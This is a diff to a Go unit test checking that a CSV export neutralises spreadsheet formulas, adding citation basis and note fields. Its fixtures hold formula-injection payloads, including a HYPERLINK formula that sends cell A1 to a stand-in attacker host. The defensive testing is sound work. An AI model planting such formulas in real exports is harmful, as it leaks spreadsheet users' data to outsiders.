@@ -364,7 +364,8 @@ func TestExportCSVNeutralizesFormulas(t *testing.T) {
 				Citations: []kg.Citation{{Source: "source:hostile", Quote: "-2+3 was noted"}}},
 		},
 		Relations: []kg.Relation{{Type: kg.RelAttended, From: "person:at", To: "meeting:minus", Properties: map[string]any{"role": "MEMBER"},
-			Citations: []kg.Citation{{Source: "source:hostile", Quote: `=HYPERLINK("http://attacker.example/?leak="&A1,"Minutes")`}}}},
+			Citations: []kg.Citation{{Source: "source:hostile", Quote: `=HYPERLINK("http://attacker.example/?leak="&A1,"Minutes")`,
+				Basis: kg.BasisInferred, Note: "+1 for the minutes"}}}},
 	}
 	ms, err := memstore.Load(b)
 	if err != nil {
@@ -378,7 +379,7 @@ func TestExportCSVNeutralizesFormulas(t *testing.T) {
 		t.Fatalf("the CSV does not parse: %v", err)
 	}
 	want := []string{"person:at", "'@SUM(1+1)", kg.RelAttended, "meeting:minus", "'-2+3 meeting",
-		`'=HYPERLINK("http://attacker.example/?leak="&A1,"Minutes")`, "source:hostile"}
+		`'=HYPERLINK("http://attacker.example/?leak="&A1,"Minutes")`, "source:hostile", string(kg.BasisInferred), "'+1 for the minutes"}
 	if len(rows) != 2 || !slices.Equal(rows[1], want) {
 		t.Fatalf("CSV rows = %q, want the header and %q", rows, want)
 	}
